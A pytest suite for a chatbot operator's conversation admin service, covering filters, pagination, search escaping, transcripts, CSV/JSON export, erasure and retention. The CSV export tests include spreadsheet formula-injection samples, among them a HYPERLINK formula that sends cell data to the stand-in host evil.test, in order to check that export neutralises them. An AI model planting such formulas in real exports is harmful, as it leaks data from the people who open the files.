"""The operator's conversation service: each list filter narrows to exactly the conversations it
names, keyset pages cover everything once, search takes % and _ literally, the transcript carries
sources, feedback, lead and handoffs, the export streams CSV (formula cells neutralised) and JSON
Lines, erasure leaves nothing in any table, retention erases old and keeps recent."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from app.server.conversation_admin import ConversationAdmin
from app.server.conversation_export import csv_lines, json_lines, neutralise
from app.server.conversation_query import ConversationFilter, decode_cursor
from app.server.db import Base, ChatSession, ConversationStore, Message
from app.server.erasure import prune_expired
from app.server.retention import RetentionTask
from app.settings import load_settings
from tests.conversation_seed import add_handoff, add_lead, add_question, backdate, conversation
from tests.services import create_database, require, start_postgres

OLD = datetime(2025, 1, 10, 12, 0)


@pytest.fixture(scope="module")
def pg_server() -> Iterator[str]:
    require("postgres")
    with start_postgres() as server:
        yield server.url


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def seeded(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[ConversationAdmin, dict]]:
    """Four conversations, each the only one with some property, on SQLite and Postgres (the
    same SQL must filter, count and search alike on both)."""
    tmp = tmp_path_factory.mktemp("conversation-admin")
    url = f"sqlite:///{tmp / 'c.sqlite3'}"
    if request.param == "postgres":
        url = create_database(request.getfixturevalue("pg_server"), "conversation_admin")
    store = ConversationStore(url)
    ids: dict[str, str] = {}
    ids["en"], en_answer = conversation(store, "How do I RETURN shoes?", assistant="shop")
    store.add_feedback(ids["en"], en_answer, "up")
    ids["de"], de_answer = conversation(
        store, "Wie lange dauert die Lieferung?", "de", assistant="shop", found=False
    )
    store.add_feedback(ids["de"], de_answer, "down", "Keine Antwort")
    add_handoff(store, ids["de"])
    ids["es"], _ = conversation(store, "¿Es de 100% algodón?", "es", reply="Sí [1].")
    add_lead(store, ids["es"], "Ada@Example.com")
    ids["old"], _ = conversation(store, "Is code 50_off valid?", reply="No [1].")
    backdate(store, ids["old"], OLD)
    with Session(store.engine) as db, db.begin():  # a row from before revision 0006
        row = db.scalars(select(Message).where(Message.session_id == ids["old"])).all()[-1]
        row.grounded, row.sources = None, "[]"
    admin = ConversationAdmin(store.engine, load_settings(data_dir=tmp))
    yield admin, ids
    store.engine.dispose()


def found(admin: ConversationAdmin, ids: dict[str, str], **filters: Any) -> set[str]:
    page = admin.list_conversations(ConversationFilter(**filters), limit=200)
    names = {v: k for k, v in ids.items()}
    return {names[item.session_id] for item in page.items}


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({}, {"en", "de", "es", "old"}),
        ({"assistant": "shop"}, {"en", "de"}),
        ({"collection": "default"}, {"en", "de", "es", "old"}),
        ({"collection": "shop"}, set()),
        ({"language": "de"}, {"de"}),
        ({"rating": "up"}, {"en"}),
        ({"rating": "down"}, {"de"}),
        ({"rating": "none"}, {"es", "old"}),
        ({"unanswered": True}, {"de", "old"}),
        ({"unanswered": False}, {"en", "es"}),
        ({"handed_over": True}, {"de"}),
        ({"handed_over": False}, {"en", "es", "old"}),
        ({"lead": True}, {"es"}),
        ({"lead": False}, {"en", "de", "old"}),
        ({"q": "return"}, {"en"}),
        ({"q": "%"}, {"es"}),
        ({"q": "_"}, {"old"}),
        ({"q": "50_o"}, {"old"}),
        ({"q": "5%"}, set()),
        ({"q": "\\"}, set()),
        ({"since": datetime(2026, 1, 1)}, {"en", "de", "es"}),
        ({"until": datetime(2025, 6, 1)}, {"old"}),
        ({"since": OLD, "until": OLD + timedelta(seconds=1)}, {"old"}),
        ({"assistant": "shop", "rating": "down", "handed_over": True}, {"de"}),
    ],
)
def test_each_filter_narrows_to_the_matching_conversations(
    seeded: tuple[ConversationAdmin, dict[str, str]], filters: dict[str, Any], expected: set[str]
) -> None:
    admin, ids = seeded
    assert found(admin, ids, **filters) == expected


def test_summaries_carry_counts_languages_and_states(
    seeded: tuple[ConversationAdmin, dict[str, str]],
) -> None:
    admin, ids = seeded
    items = {i.session_id: i for i in admin.list_conversations(ConversationFilter()).items}
    de, es, old = items[ids["de"]], items[ids["es"]], items[ids["old"]]
    assert (de.messages, de.languages, de.down, de.up, de.unanswered) == (2, ["de"], 1, 0, 1)
    assert de.first_question == "Wie lange dauert die Lieferung?"
    assert (de.handed_over, de.has_lead, de.assistant) == ("waiting", False, "shop")
    assert (es.has_lead, es.handed_over, es.assistant) == (True, None, None)
    assert old.last_at == OLD.replace(tzinfo=UTC) and old.unanswered == 1
    # newest last message first: the backdated one is last
    assert list(items)[-1] == ids["old"]


def test_keyset_pages_cover_every_conversation_once_even_with_equal_times(tmp_path: Path) -> None:
    store = ConversationStore(f"sqlite:///{tmp_path / 'c.sqlite3'}")
    made = {conversation(store, f"question {n}")[0] for n in range(7)}
    for session in list(made)[:4]:  # four share one time: the session id breaks the tie
        backdate(store, session, OLD)
    admin = ConversationAdmin(store.engine, load_settings(data_dir=tmp_path))
    seen: list[str] = []
    cursor = None
    for _ in range(10):
        page = admin.list_conversations(ConversationFilter(), limit=2, cursor=cursor)
        seen += [i.session_id for i in page.items]
        if page.next is None:
            break
        cursor = decode_cursor(page.next)
    assert sorted(seen) == sorted(made) and len(seen) == 7
    store.engine.dispose()


@pytest.mark.parametrize(
    "token", ["", "x", "!!!", "W10", "WyJ4Il0", "a" * 300, "WyIyMDI1LTAxLTAxIiwgIi4uLyJd"]
)
def test_foreign_cursors_are_refused(token: str) -> None:
    with pytest.raises(ValueError):
        decode_cursor(token)


def test_first_question_is_clipped(tmp_path: Path) -> None:
    store = ConversationStore(f"sqlite:///{tmp_path / 'c.sqlite3'}")
    conversation(store, "Warum? " * 100)
    admin = ConversationAdmin(store.engine, load_settings(data_dir=tmp_path))
    (item,) = admin.list_conversations(ConversationFilter()).items
    assert len(item.first_question) == 200
    store.engine.dispose()


def test_transcript_has_sources_feedback_lead_and_handoffs(
    seeded: tuple[ConversationAdmin, dict[str, str]],
) -> None:
    admin, ids = seeded
    de = admin.transcript(ids["de"])
    assert de is not None
    question, reply = de.messages
    assert (question.role, question.grounded, reply.role, reply.grounded) == (
        "user",
        None,
        "assistant",
        False,
    )
    assert [(f.rating, f.comment) for f in reply.feedback] == [("down", "Keine Antwort")]
    assert [h.state for h in de.handoffs] == ["waiting"] and de.lead is None
    es = admin.transcript(ids["es"])
    assert es is not None and es.lead is not None and es.lead.email == "Ada@Example.com"
    (shown,) = es.messages[1].sources
    assert (shown.source, shown.url, shown.score) == (
        "returns.md",
        "https://shop.test/returns",
        0.83,
    )
    assert es.messages[1].cited == [1]
    assert admin.transcript("0" * 32) is None


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "=HYPERLINK()"])
def test_formula_cells_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise("plain " + cell) == "plain " + cell


def test_csv_export_parses_back_one_row_per_message_with_formulas_defused(tmp_path: Path) -> None:
    store = ConversationStore(f"sqlite:///{tmp_path / 'c.sqlite3'}")
    hostile = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    sessions = [conversation(store, q)[0] for q in (hostile, "@SUM(1)", 'normal, with "quotes"')]
    conversation(store, "-1+1", reply="+42 [1]")
    admin = ConversationAdmin(store.engine, load_settings(data_dir=tmp_path))
    text = "".join(csv_lines(admin.export(ConversationFilter(), batch=2)))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 8
    contents = [r["content"] for r in rows]
    assert "'" + hostile in contents and "'@SUM(1)" in contents and "'-1+1" in contents
    assert "'+42 [1]" in contents and 'normal, with "quotes"' in contents
    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())
    answer = next(r for r in rows if r["role"] == "assistant")
    assert (answer["sources"], answer["grounded"]) == ("returns.md#1", "true")
    assert {r["session_id"] for r in rows} >= set(sessions)
    store.engine.dispose()


def test_json_export_is_one_conversation_per_line(
    seeded: tuple[ConversationAdmin, dict[str, str]],
) -> None:
    admin, ids = seeded
    text = "".join(json_lines(admin.export(ConversationFilter(assistant="shop"), batch=1)))
    records = [json.loads(line) for line in text.splitlines()]
    assert {r["session_id"] for r in records} == {ids["en"], ids["de"]}
    assert all(len(r["messages"]) == 2 for r in records)


def remaining(store: ConversationStore, session_id: str) -> dict[str, int]:
    """Rows still linked to the session, in every table that has a session or message key."""
    counts: dict[str, int] = {}
    with Session(store.engine) as db:
        message_ids = select(Message.id).where(Message.session_id == session_id)
        for table in Base.metadata.sorted_tables:
            if "session_id" in table.c:
                where = table.c.session_id == session_id
            elif "message_id" in table.c:
                where = table.c.message_id.in_(message_ids)
            elif table.name == "sessions":
                where = table.c.id == session_id
            else:
                continue
            counts[table.name] = db.scalar(select(func.count()).select_from(table).where(where))
    return counts


def test_erasure_by_id_and_by_email_leaves_nothing(tmp_path: Path) -> None:
    store = ConversationStore(f"sqlite:///{tmp_path / 'c.sqlite3'}")
    admin = ConversationAdmin(store.engine, load_settings(data_dir=tmp_path))
    first, first_answer = conversation(store, "erase me")
    store.add_feedback(first, first_answer, "down", "bad")
    add_lead(store, first, "x@example.com")
    add_handoff(store, first)
    add_question(store, first)
    second, _ = conversation(store, "mine too")
    add_lead(store, second, "Visitor@Example.org")
    kept, kept_answer = conversation(store, "keep me")
    store.add_feedback(kept, kept_answer, "up")
    linked = remaining(store, first)  # every table holds some of it
    assert linked == {
        "sessions": 1,
        "messages": 2,
        "feedback": 1,
        "leads": 1,
        "handoffs": 1,
        "questions": 1,
    }

    assert admin.erase(first) is True
    assert sum(remaining(store, first).values()) == 0
    assert admin.erase(first) is False
    assert admin.erase_by_email("visitor@EXAMPLE.org") == 1
    assert sum(remaining(store, second).values()) == 0
    assert admin.erase_by_email("visitor@example.org") == 0
    assert sum(remaining(store, kept).values()) == 4  # session, two messages, feedback
    store.engine.dispose()


def test_retention_erases_old_conversations_and_keeps_recent(tmp_path: Path) -> None:
    store = ConversationStore(f"sqlite:///{tmp_path / 'c.sqlite3'}")
    old, _ = conversation(store, "long ago")
    add_lead(store, old, "old@example.com")
    backdate(store, old, datetime.now(UTC) - timedelta(days=31))
    recent, _ = conversation(store, "yesterday")
    backdate(store, recent, datetime.now(UTC) - timedelta(days=29))
    empty_old = store.open_session(None, "default")
    backdate(store, empty_old, datetime.now(UTC) - timedelta(days=40))
    empty_new = store.open_session(None, "default")
    assert prune_expired(store.engine, 0) == 0  # 0: keep forever
    assert prune_expired(store.engine, 30) == 2
    assert prune_expired(store.engine, 30) == 0  # idempotent
    assert sum(remaining(store, old).values()) == sum(remaining(store, empty_old).values()) == 0
    with Session(store.engine) as db:
        assert set(db.scalars(select(ChatSession.id))) == {recent, empty_new}
    store.engine.dispose()


def test_retention_task_prunes_at_start_and_stops(tmp_path: Path) -> None:
    store = ConversationStore(f"sqlite:///{tmp_path / 'c.sqlite3'}")
    old, _ = conversation(store, "long ago")
    backdate(store, old, datetime.now(UTC) - timedelta(days=8))
    task = RetentionTask(store.engine, 7)
    task.start()
    deadline = time.monotonic() + 10
    while task.runs == 0 and time.monotonic() < deadline:
        time.sleep(0.01)
    task.stop()
    assert task.runs == 1 and store.owner(old) is None
    assert not any(t.name == "kbchat-retention" and t.is_alive() for t in _threads())
    store.engine.dispose()


def _threads() -> list[Any]:
    import threading

    return threading.enumerate()


def test_cli_prune_erases_once_and_prints_the_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    from app.cli import app

    url = f"sqlite:///{tmp_path / 'c.sqlite3'}"
    store = ConversationStore(url)
    old, _ = conversation(store, "long ago")
    backdate(store, old, datetime.now(UTC) - timedelta(days=100))
    recent, _ = conversation(store, "today")
    monkeypatch.setenv("KBCHAT_DATABASE_URL", url)
    monkeypatch.setenv("KBCHAT_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("KBCHAT_RETENTION_DAYS", "0")
    kept = CliRunner().invoke(app, ["db", "prune"])
    assert kept.exit_code == 0 and "nothing erased" in kept.output
    assert store.owner(old) is not None
    monkeypatch.setenv("KBCHAT_RETENTION_DAYS", "90")
    pruned = CliRunner().invoke(app, ["db", "prune"])
    assert pruned.exit_code == 0, pruned.output
    assert "erased 1 conversations older than 90 days" in pruned.output
    assert store.owner(old) is None and store.owner(recent) is not None
    store.engine.dispose()
